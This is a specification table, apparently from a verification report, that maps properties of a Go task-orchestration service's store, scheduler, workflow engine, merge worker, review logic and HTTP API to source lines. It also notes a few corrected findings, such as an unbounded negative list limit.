| TaskStore.Store.UpdateTask | internal/store/queries.go:287-300 | the row of the id, if any, changes as `Updated` says, and nothing else does |
| TaskStore.Store.ClaimTask | internal/store/queries.go:302-315 | an unknown team is an error; the claim succeeds exactly when the task is the team's and still `todo`, and only then does the row change |
| TaskStore.Store.SetTaskFailed | internal/store/queries.go:317-322 | the row of the id, if any, becomes failed with one more attempt; nothing else changes |
| TaskStore.Store.RequeueTask | internal/store/queries.go:324-333 | an unknown team is an error; only the team's own task becomes `todo` and unassigned |
| TaskStore.Store.SetTaskCancelled | internal/store/queries.go:335-344 | an unknown team is an error; only the team's own task becomes cancelled and unassigned, its git fields kept |
| TaskStore.Store.ClearTaskGitFields | internal/store/queries.go:346-351 | the row's worktree, branch, base and repository become NULL; nothing else changes |
| TaskStore.Store.UpdateTaskGitFields | internal/store/queries.go:353-366 | the row's git fields take the given values, a missing one stored as NULL |
| TaskStore.Store.UpdateTaskStage | internal/store/queries.go:817-821 | the row's stage becomes the given one |
| TaskStore.Store.SetTaskWorkflowAndStage | internal/store/queries.go:823-827 | the row's workflow and stage become the given ones |
| TaskStore.Store.RewindTask | internal/store/queries.go:368-392 | an unknown team or a task not the team's is an error; a workflow without an initial stage is an error; otherwise the row is `todo`, unassigned, at the initial stage or at none; an error changes nothing |
| TaskStore.Store.Rewound | internal/store/queries.go:382-391 | the rewound row is `todo` and unassigned; no workflow gives no stage, a workflow gives its initial stage |
| TaskStore.Store.NextRunnableTaskForTeam | internal/store/queries.go:513-527 | an unknown team is an error; none exactly when the team has no runnable task; otherwise a runnable task of the team with the oldest update time |
| TaskStore.Store.ListTasks | internal/store/queries.go:127-164 | an unknown team is an error; otherwise the team's tasks newest first, cut as the backend reads `limit` |
| TaskStore.Store.ListTasksInStage | internal/store/queries.go:166-191 | an unknown team is an error; otherwise exactly `StageListing`: the team's tasks at the stage in table order, the first `limit` of them when the limit is positive |
| TaskStore.Store.GetWorkflowInitialStage | internal/store/queries.go:783-815 | the corrected half of the initial-stage finding: the loop returns the initial stage of the stored workflow with rework edges ignored, where the source counts them |
| TaskStore.Store.GetWorkflowIDByTeamAndName | internal/store/queries.go:767-781 | an unknown team is an error; otherwise the id of the first matching workflow |
| TaskStore.Store.CreateWorkflow | internal/store/queries.go:666-731 | an unknown team, empty name or path, or a version below 1 is an error and stores nothing; otherwise one workflow is appended, `default` version 1 with the seeded stages and transitions |
| TaskStore.Store.CreateTaskReview | internal/store/queries.go:829-841 | an unknown team is an error and records nothing; otherwise the review row as given |
| TaskStore.Store.ResetAllowlist | internal/store/queries.go:883-889 | the allowlist becomes the wildcard alone |
| TaskStore.Store.AllowDomain | internal/store/queries.go:891-902 | the allowlist changes as `Allow` says, and an error changes nothing |
| TaskStore.Store.DisallowDomain | internal/store/queries.go:904-921 | the allowlist changes as `Disallow` says, and an error changes nothing |
| TaskStore.Store.CreateMessage | internal/store/queries.go:967-979 | an unknown team is an error; otherwise the message is appended with the next id and the current time |
| TaskStore.Store.ListMessages | internal/store/queries.go:982-1019 | an unknown team is an error; otherwise the selected messages newest first, cut only by a positive limit |
| TaskStore.DefaultWorkflow | internal/store/queries.go:767-781 | an id is found only for an existing team and is that of a workflow named `default` at version 1; none when the team has no such row |
| TaskStore.FirstWorkflowId | internal/store/queries.go:767-781 | a non-empty id belongs to a matching row; the empty id means no row with an id matches |
| TaskStore.FindRow | internal/store/queries.go:733-765 | no definition exactly when no row carries the id; otherwise that of a row carrying it |
| TaskStore.StageScanStep | internal/store/queries.go:805-812 | a stage outside the targets that sorts below the least so far becomes the least |
| TaskStore.StageScanKeep | internal/store/queries.go:805-812 | a stage that does not sort below the least so far leaves it |
| Migrations.ParseMigrationVersion | internal/store/store.go:280-291 | a parsed version is a 64-bit integer; the error names the file |
| Migrations.ParseMigrationVersionOf | internal/store/store.go:280-291 | a name `<v>_<rest>.sql` carries version `v`, for every 64-bit `v` and every rest |
| Migrations.ParseMigrationVersionEmpty | internal/store/sqlite/store.go:165-176 | a name with nothing before its first `_` carries no version, in the standalone SQLite store's copy of the parser as in the main one |
| Migrations.Insert | internal/store/store.go:226 | inserting keeps the list ascending and adds exactly that migration |
| Migrations.ConsAscending | internal/store/store.go:226 | a migration no later than every element of an ascending list can be put in front of it, and the list stays ascending |
| Migrations.SortByVersion | internal/store/store.go:226 | the same migrations, as a multiset, in ascending version order |
| Migrations.Collect | internal/store/store.go:207-225 | every collected migration carries the version its file name parses to |
| Migrations.ApplySQLite | internal/store/store.go:228-235 | a run only appends: the recorded versions and executed bodies keep their old prefix and grow together |
| Migrations.Unskipped | internal/store/store.go:228-231 | the pending migrations are exactly those whose version is not recorded |
| Migrations.Versions | internal/store/store.go:274 | one version per migration, in order |
| Migrations.Executed | internal/store/store.go:271 | one body per migration, in order |
| Migrations.AsSet | internal/store/store.go:246-262 | the set holds exactly the listed versions |
| Migrations.ApplySQLiteSucceeds | internal/store/store.go:228-235 | a successful run records and executes exactly the migrations not recorded before, in their order |
| Migrations.ApplySQLiteAllSkipped | internal/store/store.go:229-231 | when every migration is recorded, a run changes nothing |
| Migrations.ApplySQLiteRecordsAll | internal/store/store.go:228-237 | after a successful run every migration's version is recorded |
| Migrations.ApplySQLiteTwice | internal/store/sqlite/store.go:77-124 | running the migrations again after a successful run changes nothing; the standalone SQLite store runs the same loop |
| Migrations.UnskippedAscending | internal/store/store.go:226-231 | skipping recorded versions keeps the list ascending |
| Migrations.ApplySQLiteAscending | internal/store/store.go:226-235 | the versions a successful run adds are new and in ascending order |
| Migrations.CollectPending | internal/store/postgres/store.go:84-97 | every pending migration is unrecorded and carries the version its name parses to |
| Migrations.PendingSkipsBadName | internal/store/postgres/store.go:88-91 | a file without an integer version is passed over silently |
| Migrations.ApplyPostgres | internal/store/postgres/store.go:100-107 | a recorded version stays recorded |
| Migrations.ApplyPostgresRecordsAll | internal/store/postgres/store.go:100-108 | after a successful run every migration's version is recorded |
| Migrations.NothingPending | internal/store/postgres/store.go:92-94 | when every version is recorded nothing is pending |
| Migrations.PendingFromFiles | internal/store/postgres/store.go:84-97 | every pending migration comes from a `.sql` file that is not a directory and whose version parses |
| Migrations.Database.constructor | internal/store/store.go:33 | a database starts with the given handle, records and failures |
| Migrations.Database.MigrateSQLite | internal/store/store.go:184-238 | an uninitialized store is an error and a closed one fails; a bad file name aborts before anything runs; otherwise the sorted migrations not recorded before are applied in order until one fails, leaving the records and the error `SQLiteMigrate` describes |
| Migrations.Database.AppliedVersions | internal/store/store.go:246-262 | a version is in the set exactly when it is recorded |
| Migrations.Database.ApplyMigration | internal/store/store.go:264-278 | the body and the version record commit together: success exactly when the body runs and the version is new, and a failure changes nothing |
| Migrations.Database.MigratePostgres | internal/store/postgres/store.go:64-109 | the pending files, sorted by version, are executed and recorded as `ApplyPostgres` says |
| Migrations.Database.Close | internal/store/sqlite/store.go:54-59 | closing never fails; a nil handle stays nil, any other is closed; no record changes |
| Migrations.PostgresTwice | internal/store/postgres/store.go:64-109 | a second run after a successful one finds nothing pending and changes nothing |
| Migrations.PendingHas | internal/store/postgres/store.go:84-97 | a `.sql` file whose version parses and is unrecorded is pending |
| Migrations.CollectPendingCons | internal/store/postgres/store.go:84-97 | the pending list of a directory listing is the first entry's contribution followed by the pending list of the rest |
| StoreOpen.SQLiteDSN | internal/store/store.go:19-25 | an empty DSN is refused; one without the `file:` scheme is wrapped with the busy timeout, and one with it is used as given |
| StoreOpen.SQLiteDSNIdempotent | internal/store/store.go:23-25 | a normalised DSN is not wrapped again |
| StoreOpen.DatabaseInProtectedDir | internal/store/store.go:92-93 | for an absolute home the database file lies directly inside `<home>/protected` |
| StoreOpen.OpenWithOptions | internal/store/store.go:73-88 | the `postgres` driver is refused; an empty home with a DSN opens that DSN; otherwise the database under the home is opened once its directory exists; either SQLite path succeeds exactly when the pragmas, the migrations and the prepared statements all succeed, and otherwise returns the first failure; no file changes |
| StoreOpen.OpenSQLite | internal/store/store.go:90-119 | the protected directory is created and the database file in it is opened with the busy timeout; a failing directory is an error that leaves the database as it was; a failing pragma, migration or prepared statement is the error and closes the database |
| StoreOpen.DSNOfHomeDatabase | internal/store/store.go:23-25 | opening the home's database file by a `file:` DSN uses that file as given |
| StoreOpen.PostgresDSN | internal/store/postgres/store.go:26-32 | the given DSN, else `DATABASE_URL`; both empty is an error |
| StoreOpen.PostgresDSNIgnoresEnv | internal/store/postgres/store.go:27-29 | an explicit DSN wins whatever the environment |
| Migrations.PrependSnoc | internal/store/store.go:207-225 | collecting one more migration before a collected rest is the same as putting it in front of that rest |
| Migrations.CollectFiles | internal/store/store.go:207-225 | the loop over the embedded directory returns what `Collect` specifies: the first bad file name's error, else one migration per `.sql` file |
| Migrations.CollectPendingFiles | internal/store/postgres/store.go:84-97 | the loop over the directory returns what `CollectPending` specifies |
| Migrations.Database.ApplySorted | internal/store/store.go:228-237 | the loop over the sorted migrations leaves the records and the error `ApplySQLite` specifies, and keeps the handle |
| Migrations.Database.ApplyPending | internal/store/postgres/store.go:100-108 | the loop over the sorted pending migrations leaves the records and the error `ApplyPostgres` specifies |
| StoreOpen.Setup | internal/store/store.go:106-119 | the pragmas, then the migrations, then the prepared statements; the first failure is the error and closes the database, and on success the database stays open with the migrations recorded |
| Events.OptStr | internal/daemon/scheduler.go:228-232 | a missing optional string is JSON `null`, a present one its string |
| Events.Decoded | internal/httpapi/sse.go:42-57 | after the JSON round trip a payload has the same keys, every integer as a float and every other value as sent |
| Events.TruncateOfInt | internal/manager/manager.go:136-166 | converting the float of an integer back to `int64` gives the integer |
| Events.Hub.constructor | internal/httpapi/sse.go:19-21 | a new hub has published nothing |
| Events.Hub.Publish | internal/httpapi/sse.go:42-57 | publishing appends exactly the payload to what was published |
| AgentPool.BuildPool | internal/daemon/scheduler.go:196-200 | the loop builds exactly the set of trimmed comma-separated entries |
| AgentPool.PoolOfNames | internal/daemon/scheduler.go:196-200 | names without commas or edge blanks, joined by commas, form exactly that set |
| AgentPool.FilterAppend | internal/daemon/scheduler.go:201-206 | filtering one more agent appends it exactly when it is kept |
| AgentPool.FilterAll | internal/daemon/scheduler.go:201-206 | filtering keeps a list whose every agent is kept |
| AgentPool.FilterMembers | internal/daemon/scheduler.go:201-206 | the filtered list holds exactly the kept agents |
| AgentPool.FirstWhere | internal/daemon/scheduler.go:208-212 | none exactly when no agent is kept; otherwise the kept agent with no kept agent before it |
| AgentPool.FilterHead | internal/review/review.go:34-36 | the filtered list is empty exactly when no agent is kept, and its head is the first kept agent |
| AgentPool.FilterAgents | internal/daemon/scheduler.go:201-206 | the loop collects exactly the filtered list |
| AgentPool.FindFirst | internal/daemon/scheduler.go:208-224 | the early-return scan finds the first kept agent |
| Scheduler.ConcurrencyLimit | internal/daemon/scheduler.go:27-30 | a positive `MaxConcurrent` is used as given; otherwise `DefaultSchedulerChanSize`; the limit is always positive |
| Scheduler.ManagerOrFirst | internal/daemon/scheduler.go:219-225 | the result is an agent's name: the first manager when there is one, else the first agent |
| Scheduler.CandidatesMembers | internal/daemon/scheduler.go:196-206 | the candidates are exactly the agents whose name is in the stage's trimmed pool |
| Scheduler.PoolAssigneeAtFirstStage | internal/daemon/scheduler.go:194-216 | the pool decides exactly when some stage named like the current one has a non-blank pool holding an agent, and the first such stage decides: its first manager, else its first candidate |
| Scheduler.PoolAssigneeIsFirstOffer | internal/daemon/scheduler.go:194-216 | the pool choice is made at the first stage, in list order, that is named like the current one and whose pool holds an agent, and there is none when no stage does |
| Scheduler.AssigneeIsAgent | internal/daemon/scheduler.go:190-226 | the assignee is always one of the agents; a pooled one is in the pool of a stage named like the current stage |
| Scheduler.AssigneeWithoutPool | internal/daemon/scheduler.go:191-225 | without a workflow and stage, or without a pool holding an agent, the first manager is chosen, else the first agent |
| Scheduler.ManagerFirstExamples | internal/daemon/scheduler.go:219-225 | a manager is chosen over an engineer listed before it; without a manager the first agent |
| Scheduler.AllCandidates | internal/daemon/scheduler.go:196-206 | when the pool names every agent, all agents are candidates, in their order |
| Scheduler.PickAssignee | internal/daemon/scheduler.go:190-226 | the loops choose exactly the assignee the pool rule specifies |
| Scheduler.TaskUpdate | internal/daemon/scheduler.go:228-232 | the payload carries type `task_update`, team, task id and status, and `assignee` exactly when there is one |
| Scheduler.PublishTaskUpdate | internal/daemon/scheduler.go:228-234 | exactly one `task_update` payload is published |
| Engine.ApplyAllConcat | internal/workflow/engine.go:41-115 | applying two lists of row writes in turn is applying their concatenation |
| Engine.ApplyOne | internal/workflow/engine.go:64 | a one-write list applies that write |
| Engine.ApplyTwo | internal/workflow/engine.go:113-115 | a two-write list applies them in order |
| Engine.ChainRows | internal/workflow/engine.go:41-64 | two rounds of writes to the same row are one round of both |
| Engine.TurnRows | internal/workflow/engine.go:30-167 | entering the start stage and then dispatching on it leaves the row as the whole planned turn does, with the plan's error |
| Engine.ApplyAllKeepsIdentity | internal/workflow/engine.go:41-163 | no write of a turn changes a row's id, team or creation time |
| Engine.OutcomeOf | internal/workflow/engine.go:93-96 | the outcome is never empty; it is `done` exactly when the trimmed output is empty, `done` or `stub: ok`, and otherwise the trimmed output |
| Engine.NamedRepo | internal/workflow/engine.go:135-140 | none exactly when there is no repository name or no repository has it; otherwise a repository with that name |
| Engine.ChooseRepo | internal/workflow/engine.go:133-143 | the named repository, else the team's first; none exactly when the team has no repositories |
| Engine.TestError | internal/workflow/engine.go:132-149 | no test runs without a worktree, a repository or a non-empty test command; otherwise the gate passes exactly when the test command succeeds in the worktree |
| Engine.PlanTurn | internal/workflow/engine.go:26-29 | a turn is handled exactly when the task has a workflow id; an unhandled turn has no error and writes nothing |
| Engine.PlanDispatches | internal/workflow/engine.go:35-62 | a turn at a found stage is the write entering the initial stage, when there is one, followed by the dispatch on the stage's type |
| Engine.LandingFacts | internal/workflow/engine.go:108-117 | landing on an outcome moves the row only to the target of a matching edge, marks it done only at a terminal stage, and never changes its attempts or workflow |
| Engine.DispatchMovesAlongEdges | internal/workflow/engine.go:62-166 | dispatching moves the row's stage only along an edge from that stage, and changes its status only to `done` at a terminal stage or to `failed` with an error |
| Engine.TurnMovesAlongEdges | internal/workflow/engine.go:26-167 | a whole turn moves the row's stage only to the start stage or a stage reachable from it by an edge, and the status only to `done` at a terminal stage or to `failed` with an error |
| Engine.UnknownStageWritesNothing | internal/workflow/engine.go:51-60 | a stage name the workflow lacks is handled with no error and no write |
| Engine.TurnEntersInitialStage | internal/workflow/engine.go:35-45 | a task without a stage fails the turn when the initial-stage query fails, and otherwise first stores the workflow and initial stage |
| Engine.TerminalStageMarksDone | internal/workflow/engine.go:63-65 | a terminal stage writes only `done` |
| Engine.RuntimeErrorFailsTask | internal/workflow/engine.go:88-92 | a runtime error marks the task failed, adds one attempt, keeps the stage and is the turn's error |
| Engine.HumanStageWaits | internal/workflow/engine.go:119-129 | a human stage has no error and writes nothing beyond entering the initial stage |
| Engine.MergeFailureKeepsRow | internal/workflow/engine.go:151-154 | a failing merge is the turn's error, prefixed `merge failed: `, and writes nothing |
| Engine.Engine.constructor | internal/workflow/engine.go:19-22 | the engine holds the given store and home |
| Engine.Engine.RunTurn | internal/workflow/engine.go:26-167 | through the store's own operations the row receives exactly the planned writes; handled and error are the plan's; no other table changes |
| Engine.Engine.RunInWorkflow | internal/workflow/engine.go:30-167 | for a task with a workflow, the row receives exactly the writes `PlanTurn` gives and the error is the plan's; no other table changes |
| Engine.Engine.EnterStart | internal/workflow/engine.go:31-45 | the start stage is the current one, else the initial stage, which is then stored with the workflow id; on its error nothing is written |
| Engine.Engine.DispatchAt | internal/workflow/engine.go:47-62 | a stage the workflow lacks writes nothing; a found one is dispatched on |
| Engine.Engine.Perform | internal/workflow/engine.go:62-166 | the row receives exactly the dispatch's writes and the error is the dispatch's |
| Engine.Engine.RunAgent | internal/workflow/engine.go:66-118 | one runtime turn; a runtime error writes `failed`, otherwise the row lands on the turn's outcome |
| Engine.Engine.RunMerge | internal/workflow/engine.go:130-163 | the test gate (failing writes `failed`), the merge (failing writes nothing) and then landing on `done` |
| Engine.Engine.TestGate | internal/workflow/engine.go:131-150 | only a task with a worktree whose chosen repository, the named one or else the first, has a test command runs it; a failure marks the row failed and is the error; otherwise nothing changes |
| Engine.Engine.Land | internal/workflow/engine.go:112-117 | the row moves to the first matching edge's target and is marked done when that stage is terminal; no edge, no write |
| Engine.LookupStage | internal/workflow/engine.go:51-57 | the scan finds the first stage with the name, as `FindStage` specifies |
| Engine.PickRepo | internal/workflow/engine.go:133-143 | the scan chooses the repository `ChooseRepo` specifies |
| MergeWorker.Interval | internal/merge/worker.go:22-29 | the interval is always positive: the configured one when positive, else fifteen seconds |
| MergeWorker.Landed | internal/merge/worker.go:114-116 | a landed row is done, in the `Done` stage of its workflow, unassigned and without git fields, and keeps its id, team, title, DRI and attempts |
| MergeWorker.SkipsOnlyWithoutWorkflow | internal/merge/worker.go:69-75 | a task is skipped exactly when it has no workflow id |
| MergeWorker.NoWorktreeLands | internal/merge/worker.go:77-114 | a task with a workflow and no worktree lands whatever the git commands would do |
| MergeWorker.LandingPassedEveryStep | internal/merge/worker.go:77-116 | a task lands only when the rebase (when asked for and possible), the chosen repository's test command and the merge of its branch all succeeded |
| MergeWorker.RebaseOnlyWhenAsked | internal/merge/worker.go:77-112 | without the rebase option the outcome is decided by the test command, then the merge |
| MergeWorker.FailureKeepsPlace | internal/merge/worker.go:80-108 | a failure marks the row failed with one more attempt and keeps its stage, workflow, worktree and branch |
| MergeWorker.ProcessedSettles | internal/merge/worker.go:60-121 | processing leaves the row alone or leaves it failed or landed |
| MergeWorker.ProcessTask | internal/merge/worker.go:60-121 | the row becomes exactly what the decision for it says, the worktree is removed only after a landing, and no other table changes |
| MergeWorker.CheckAndLand | internal/merge/worker.go:85-119 | the test command and the merge decide between failing the row and landing it |
| MergeWorker.LandTask | internal/merge/worker.go:114-116 | the three writes leave the row exactly `Landed` |
| MergeWorker.RunOnce | internal/merge/worker.go:42-58 | the teams are taken in order, each processing its listing of at most twenty `Merging` tasks read from the table the earlier teams left: the table becomes `RoundRows` of the old one and `taken[i]` is the length of team `i`'s listing; every changed row was in `Merging` and is now settled |
| MergeWorker.RunTeam | internal/merge/worker.go:49-56 | one team's turn: the table becomes its `Merging` listing's updates applied in order, and the count is the listing's length |
| MergeWorker.ProcessRow | internal/merge/worker.go:55 | processing one task touches at most the row of its id |
| MergeWorker.ProcessRows | internal/merge/worker.go:54-56 | processing the listed tasks keeps the table's length |
| MergeWorker.RoundRows | internal/merge/worker.go:48-57 | a round keeps the table's length |
| MergeWorker.RoundTaken | internal/merge/worker.go:48-57 | one count per team, each at most twenty |
| MergeWorker.ProcessRowsListed | internal/merge/worker.go:54-56 | processing tasks with strictly increasing ids turns each one's row into what the decision for it says about the row as it was, and leaves the rows of other ids alone |
| MergeWorker.TeamStepRows | internal/merge/worker.go:49-56 | one team's step turns each task of its `Merging` listing into the decision's outcome for that task and leaves every row outside the listing unchanged |
| MergeWorker.RoundRowsStep | internal/merge/worker.go:48-57 | a round over one more team is the shorter round followed by that team's step |
| MergeWorker.RoundTakenStep | internal/merge/worker.go:48-57 | one more team adds the length of its listing to the counts |
| MergeWorker.RoundListingPrefix | internal/merge/worker.go:48-57 | a team's listing does not depend on the teams after it |
| MergeWorker.ProcessedId | internal/merge/worker.go:60-121 | processing keeps the row's id |
| MergeWorker.RoundSoFarTrans | internal/merge/worker.go:48-57 | settling rows in two passes settles them in one |
| MergeWorker.ProcessAll | internal/merge/worker.go:54-56 | the table becomes the listed tasks' updates applied in order (`ProcessRows`), each keeping the round's invariant |
| MergeWorker.ProcessOne | internal/merge/worker.go:55 | the task's row becomes what the decision for it says and no other row changes; the round's invariant is kept |
| Reviews.PoolReviewerIsFirstEligible | internal/review/review.go:18-40 | a pool reviewer is in the pool of an `InReview` stage, is not the DRI, and is the first such agent in list order |
| Reviews.ReviewerIsAgent | internal/review/review.go:12-51 | the reviewer is `""` without agents and otherwise the name of one of them |
| Reviews.ReviewerAvoidsDri | internal/review/review.go:34-49 | the DRI is never chosen while some agent is not the DRI; when every agent is, the first agent is |
| Reviews.ReviewerWithoutPool | internal/review/review.go:42-46 | without a pool reviewer the first agent that is not the DRI is chosen |
| Reviews.PickReviewer | internal/review/review.go:12-51 | the loops choose exactly the reviewer the pool rule specifies |
| Reviews.ReviewWithoutEdge | internal/review/review.go:60-82 | without a workflow or without an edge for the outcome from the task's stage the row is unchanged |
| Reviews.ReviewFollowsEdge | internal/review/review.go:73-98 | the row moves to the first matching edge's target; a terminal target makes it done and unassigned; requested changes to another stage give it back to its DRI `in_progress`; otherwise status and assignee stay |
| Reviews.DefaultReviewOutcomes | internal/review/review.go:83-97 | in the default workflow, requested changes at `InReview` return the task to `Coding` and its DRI, and approval moves it to `InApproval` |
| Reviews.SubmitReview | internal/review/review.go:55-99 | the review is recorded first and fails exactly for an unknown team, changing nothing; then the team's task, when there is one, becomes `Reviewed` |
| Reviews.ApplyReview | internal/review/review.go:60-98 | after the review is recorded, a task that is not the team's changes nothing; the team's task becomes `Reviewed` under its workflow's stages and transitions; no review is added |
| Reviews.MoveReviewed | internal/review/review.go:83-97 | the stage, hand-back and done writes leave the row exactly `Reviewed` and record no review |
| MergeWorker.ProcessRowsOther | internal/merge/worker.go:54-56 | processing tasks none of which has the id of row `k` leaves row `k` unchanged |
| MergeWorker.ProcessRowsStep | internal/merge/worker.go:54-56 | processing one more listed task is processing the earlier ones, then that task |
| MergeWorker.TeamStepListed | internal/merge/worker.go:49-56 | the `i`-th task of a team's `Merging` listing has the id of a row, and that row becomes the decision's outcome for the task |
| MergeWorker.TeamStepUnlisted | internal/merge/worker.go:49-56 | a row whose task is not in the team's `Merging` listing is left unchanged by the team's step |
| Manager.PollSettings | internal/manager/manager.go:136-142 | the recipient is never empty and the interval always positive: the given ones when set, else `manager` and the default interval |
| Manager.ParseTaskEvent | internal/manager/manager.go:47-66 | an event is read exactly when it is a `task_update` with a non-empty team and an integer or float task id; it carries that team and status, and an integer id as given |
| Manager.TaskUpdateReadsBack | internal/daemon/scheduler.go:228-234 | the scheduler's `task_update`, published and decoded as JSON, is read back as the team, task id and status it was built from |
| Manager.FollowUpOf | internal/manager/manager.go:68-74 | a follow-up is due exactly for a `done` event of a task the team has, and is about that task |
| Manager.HandleEvent | internal/manager/manager.go:47-100 | a due follow-up creates one `Review: <title>` task, todo, in the team's default workflow, publishes one `task_update` without status and returns the Slack notice; any other event, a failed one included, changes nothing |
| Manager.AdvanceTask | internal/manager/manager.go:115-121 | one of the five allowed statuses is written with the assignee; any other status writes nothing; never an error |
| Manager.AssignTask | internal/manager/manager.go:110-112 | only the assignee changes; the status stays |
| Manager.CreateTaskForTeam | internal/manager/manager.go:124-133 | fails exactly for an unknown team or an empty title; otherwise appends one task, todo when the status is empty, in the team's default workflow when there is one |
| Manager.UsageUnreachableAsWritten | internal/manager/manager.go:169-176 | as written, no content is ever answered with the usage reply |
| Manager.BareShellAcknowledgedAsWritten | internal/manager/manager.go:169-200 | as written, the bare `/shell` is acknowledged with `Got: /shell` |
| Manager.InboxActionMeaning | internal/manager/manager.go:169-200 | the corrected decision: a `/shell` request runs only a non-blank, unblocked command after the prefix and is answered otherwise; trimmed content of more than ten bytes of UTF-8 (Go's `len`) not starting with `/` becomes a task titled with it; the rest is acknowledged |
| Manager.InboxActionCorrected | internal/manager/manager.go:169-176 | the corrected decision answers the bare `/shell` with the usage and decides all other content as written |
| Manager.ShortNonAsciiRequestIsTask | internal/manager/manager.go:191 | six `é`s, six runes but twelve bytes, become a task: the length test counts bytes |
| Manager.LongByRunes | internal/manager/manager.go:191 | non-command content of more than ten runes always becomes a task, since a rune is at least one byte |
| Manager.HandleInboxMessage | internal/manager/manager.go:168-203 | the reply is the decision's answer; a task is created only when asked for and the team exists; one reply message from `manager` is stored; the `message` event is published once for a shell request and twice otherwise |
| Manager.Answer | internal/manager/manager.go:177-200 | the shell's trimmed output or its error, the fixed reply, or `Created task #<id>` when the task was created and `Got: <content>` when not |
| Manager.ReplyToSender | internal/manager/manager.go:205-208 | one message from `manager` to the sender is stored when the team exists, and one `message` event is published |
| McpToolkit.Toolkit.TaskLimit | internal/mcp/toolkit.go:39-42 | the limit is always positive: a positive one as given, else `DefaultMCPTaskLimit` |
| McpToolkit.Toolkit.MessageLimit | internal/mcp/toolkit.go:48-51 | the limit is always positive: a positive one as given, else `DefaultMCPMessageLimit` |
| McpToolkit.Toolkit.CreateTask | internal/mcp/toolkit.go:27-31 | fails exactly for an unknown team or an empty title; otherwise appends one task of the toolkit's team with that title, todo, without workflow or assignee |
| McpToolkit.Toolkit.SendMessage | internal/mcp/toolkit.go:33-36 | fails exactly for an unknown team; otherwise appends one message whose sender is the toolkit's own agent |
| McpToolkit.Toolkit.ListTasks | internal/mcp/toolkit.go:38-44 | fails exactly for an unknown team; otherwise the team's newest tasks within the limit, at most `DefaultMCPTaskLimit` when none is given |
| McpToolkit.Toolkit.ListMessages | internal/mcp/toolkit.go:46-53 | fails exactly for an unknown team; otherwise the newest messages of the team for the recipient (all when it is empty), at most `DefaultMCPMessageLimit` when no limit is given |
| McpToolkit.CreateTaskExample | internal/mcp/toolkit_test.go:12-35 | `alice` in `team1` creates `New task`, a todo task of that team with a positive id |
| HttpApi.LoadError | internal/httpapi/server.go:225-239 | a handler proceeds exactly when the team has the task; otherwise 500 for an unknown team and 404 for a task that is not the team's |
| HttpApi.ApproveTarget | internal/httpapi/server.go:368-390 | an approval fails exactly without a workflow, without a current stage, or without an edge for the outcome; otherwise it moves to the target of the first such edge |
| HttpApi.ApproveDefaultsOutcome | internal/httpapi/server.go:368-370 | an empty outcome approves exactly as `approved` does |
| HttpApi.Approved | internal/httpapi/server.go:391-405 | the row moves to the target, and becomes done and unassigned exactly when the target is terminal |
| HttpApi.Approve | internal/httpapi/server.go:355-408 | a load error or a missing target changes nothing and is the reply; otherwise the row becomes `Approved` and one `task_update` with the new stage is published |
| HttpApi.ReviewTarget | internal/httpapi/server.go:486-508 | a review request fails exactly without a workflow or without a `submit_for_review` edge from the current stage; otherwise it moves to that edge's target |
| HttpApi.ReviewRequested | internal/httpapi/server.go:510-522 | the row moves to the target with its status and DRI kept; the assignee changes only when the target is `InReview` and the team has agents |
| HttpApi.ReviewRequestAssignsReviewer | internal/httpapi/server.go:514-521 | a request into `InReview` assigns one of the team's agents, and never the DRI while another agent exists |
| HttpApi.RequestReview | internal/httpapi/server.go:480-531 | a load error or a missing target changes nothing; otherwise the row becomes `ReviewRequested` and one `task_update` with stage and assignee is published |
| HttpApi.AssignReviewer | internal/httpapi/server.go:514-522 | the row that has just entered its stage is assigned its reviewer as `WithReviewer` says |
| HttpApi.PatchStatus | internal/httpapi/server.go:546-558 | a status is refused exactly when it is given, non-empty and not one of the eight statuses; an omitted or empty one leaves the status alone |
| HttpApi.PatchSkipsTransitionCheck | internal/httpapi/server.go:546-559 | any known status can be written from any status, with no check against the workflow |
| HttpApi.Patch | internal/httpapi/server.go:537-574 | a load error or a refused status changes nothing; otherwise the row is updated, the reply is the updated row and its `task_update` is published |
| HttpApi.Create | internal/httpapi/server.go:598-627 | a task is created exactly for a non-empty title, a status that is empty, `todo` or `in_progress`, and a known team; it is appended in the team's default workflow and announced; every refusal is a 400 and changes nothing |
| HttpApi.NegativeLimitUnboundedAsWritten | internal/httpapi/server.go:583-591 | as written, `limit=-1` reaches the store, where the SQLite query has no bound, while no limit at all gets the default bound |
| HttpApi.ListLimit | internal/httpapi/server.go:583-590 | the corrected limit (see Findings) is between 0 and the maximum: a positive one clamped to the maximum, anything else 0, where the source passes a negative parsed value on |
| HttpApi.ListLimitCorrected | internal/httpapi/server.go:583-591 | the corrected limit agrees with the one as written except on negative values, and bounds every SQLite query |
| HttpApi.ListTasks | internal/httpapi/server.go:580-597 | 404 exactly for an unknown team; otherwise the team's newest tasks within the limit, never more than the default list limit when one is given |
| HttpApi.ListMessages | internal/httpapi/server.go:832-851 | 500 exactly for an unknown team; otherwise the newest messages for the recipient within the limit |
| HttpApi.JournalLimit | internal/httpapi/server.go:647-654 | the byte limit is between 0 and 512 KiB: a positive one clamped to it, anything else 0, where the source passes a negative parsed value on; `Journal.Read` treats both as no limit |
| HttpApi.Admits | internal/httpapi/server.go:1016-1033 | every request passes when no key is configured and for `/health` and `/metrics`; otherwise exactly when the header, or the query parameter when the header is empty, equals the key |
| HttpApi.AdmitsNeedsKey | internal/httpapi/server.go:1023-1030 | a configured key refuses a request that presents none, and a wrong header is not rescued by a right query parameter |
| HttpApi.BytesTrimSpace | internal/httpapi/server.go:1071-1081 | the result is the piece of the input between its leading and trailing space, newline, return and tab bytes, and neither begins nor ends with one |
| HttpApi.NilIfEmpty | internal/httpapi/server.go:1140-1145 | an empty string is `null`, any other one itself |
| HttpApi.NilIfEmptyRoundTrip | internal/httpapi/server.go:1140-1145 | reading `null` back as the empty string restores the input |
| WebApi.NormalizeTask | web/src/lib/api.ts:54-66 | normalizing throws exactly for `null` or `undefined` |
| WebApi.NormalizeTaskFields | web/src/lib/api.ts:55-65 | each of the nine fields is the PascalCase value unless that is `null` or `undefined`, else the snake_case value |
| WebApi.TaskJsonNoPascal | web/src/lib/api.ts:55-65 | a normalized task's object has no PascalCase key |
| WebApi.TaskJsonSnake | web/src/lib/api.ts:55-65 | each snake_case key of a normalized task's object holds its field |
| WebApi.TaskJsonRoundTrip | web/src/lib/api.ts:54-66 | normalizing the object of a client task gives that task back |
| WebApi.NormalizeIdempotent | web/src/lib/api.ts:54-66 | normalizing twice is normalizing once |
| WebApi.NormalizeAll | web/src/lib/api.ts:72-86 | mapping `normalizeTask` throws exactly at a `null` or `undefined` element, else keeps length and order |
